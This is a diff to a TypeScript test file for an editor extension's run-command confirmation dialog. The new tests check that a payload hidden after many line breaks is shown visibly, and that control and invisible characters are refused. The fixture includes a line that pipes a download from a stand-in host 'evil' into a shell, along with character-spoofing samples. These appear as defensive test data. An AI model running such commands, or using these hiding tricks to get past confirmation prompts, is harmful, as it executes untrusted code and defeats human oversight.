@@ -2,6 +2,7 @@ import * as assert from 'node:assert/strict';
 import * as path from 'node:path';
 import {
   chooseInterpreter,
+  commandLineProblem,
   confirmationDetail,
   confirmationKey,
   formatCommandLine,
@@ -58,6 +59,27 @@ describe('extension run command', () => {
     assert.ok(detail.includes('Command: /venv/bin/python agent.py'));
     assert.ok(detail.includes('Working folder: /ws'));
     assert.ok(detail.includes(`AGENTPROF_OUT=${plan.outFile}`));
+  });
+
+  it('shows line breaks in a run command visibly, on one line of the dialog (issue 18)', () => {
+    // The red-team payload sat on line 66 of 72, below what the dialog shows.
+    const argv = ['python3', '-c', 'print(1)' + '\n'.repeat(65) + 'import os; os.system("curl evil | sh")'];
+    const plan = planRun({ ...base, target: { kind: 'command', argv }, baseEnv: {} });
+    const detail = confirmationDetail(plan);
+    const commandLine = detail.split('\n').find((l) => l.startsWith('Command: '))!;
+    assert.ok(commandLine.endsWith(`$'print(1)${'\\n'.repeat(65)}import os; os.system("curl evil | sh")'`), commandLine);
+    // Command, folder, the environment heading and its lines, a blank line, the warning.
+    assert.equal(detail.split('\n').length, 5 + plan.envAdditions.length, 'no extra lines');
+    assert.equal(formatCommandLine(['a\nb', "it's\t\\"]), `$'a\\nb' $'it\\'s\\t\\\\'`);
+    assert.equal(commandLineProblem(argv), undefined, 'line breaks are shown, not refused');
+  });
+
+  it('refuses control and invisible format characters in a run command with a clear reason', () => {
+    assert.equal(commandLineProblem(['python3', 'ok']), undefined);
+    assert.equal(commandLineProblem(['python3', 'a\u001b]0;title\u0007']), 'argument 2 holds the invisible or control character U+001B, which a confirmation cannot show');
+    assert.match(commandLineProblem(['x\u202eexe.py'])!, /argument 1 .*U\+202E/);
+    assert.match(commandLineProblem(['a', 'b', 'c\u0000'])!, /argument 3 .*U\+0000/);
+    assert.match(commandLineProblem(['\u009b31m'])!, /U\+009B/);
   });
 
   it('summarises how the run ended', () => {
